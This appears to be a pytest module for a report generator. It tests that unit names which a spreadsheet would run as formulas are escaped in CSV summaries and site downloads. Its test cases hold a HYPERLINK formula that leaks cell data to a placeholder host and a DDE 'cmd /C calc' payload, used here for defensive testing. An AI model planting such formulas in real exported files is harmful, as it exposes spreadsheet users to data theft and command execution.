"""CSV formula injection: a unit name that a spreadsheet would run is written as text.

The issue's repro: a unit name ``=HYPERLINK("http://…","x")`` went as it was into
``summary --format csv`` and the site's CSVs, and LibreOffice opened it as a formula. Cells
starting with ``=``, ``+``, ``-``, ``@``, tab or CR are prefixed with ``'``; our own numbers
(``+3``, ``-2``, ``50.0%``) stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest

from generator.core.summary_text import csv_cell
from tests.casemaker import SMALL_CAMPAIGN, case_data, put
from tests.conftest import Result

Cli = Callable[..., Result]
FORMULA = '=HYPERLINK("http://x.invalid/?leak="&A1,"点此查看")'
GUARDED = "'" + FORMULA


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, GUARDED),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+3", "+3"),
        ("-2", "-2"),
        ("50.0%", "50.0%"),
        ("东村", "东村"),
        ("a=b", "a=b"),
    ],
)
def test_csv_cell(cell: str, written: str) -> None:
    assert csv_cell(cell) == written


@pytest.fixture
def formula_unit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The small campaign with 西村 renamed to a formula (quoted for YAML)."""
    name = FORMULA.replace('"', '\\"')
    campaign = SMALL_CAMPAIGN.replace("名称: 西村", f'名称: "{name}"')
    (tmp_path / "campaign.yaml").write_text(campaign, encoding="utf-8")
    put(tmp_path, "dongcun-001", case_data("2019-07-11"))
    put(tmp_path, "xicun-001", case_data("2019-07-16", "2019-07-16"))
    monkeypatch.chdir(tmp_path)
    return tmp_path


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_summary_csv_guards_the_unit_name(formula_unit: Path, cli: Cli) -> None:
    out = cli("summary", "--today", "2019-08-05", "--format", "csv", "--period", "2019-07-2").out
    assert rows(out) == [
        ["报送单位", "排查数", "化解数", "化解率", "累计排查数", "累计化解数", "累计化解率"],
        ["东村", "0", "0", "—", "1", "0", "0.0%"],
        [GUARDED, "1", "1", "100.0%", "1", "1", "100.0%"],
        ["工业园区管委会", "0", "0", "—", "0", "0", "—"],
        ["合计", "1", "1", "100.0%", "2", "1", "50.0%"],
    ]
    assert '\r\n"\'=HYPERLINK(""http://x.invalid/?leak=""&A1,""点此查看"")",1,1,' in out


@pytest.mark.slow
def test_site_csv_guards_the_unit_name(formula_unit: Path, cli: Cli) -> None:
    result = cli("build", "--today", "2019-08-05")
    assert (result.code, result.err) == (0, "")
    written = sorted((formula_unit / "site/downloads").glob("*.csv"))
    assert [p.name for p in written] == [
        "summary-2019-07-1.csv",
        "summary-2019-07-2.csv",
        "summary-2019-08-1.csv",
    ]
    for path in written:
        names = [row[0] for row in rows(path.read_bytes().decode("utf-8"))]
        assert names == ["报送单位", "东村", GUARDED, "工业园区管委会", "合计"], path.name
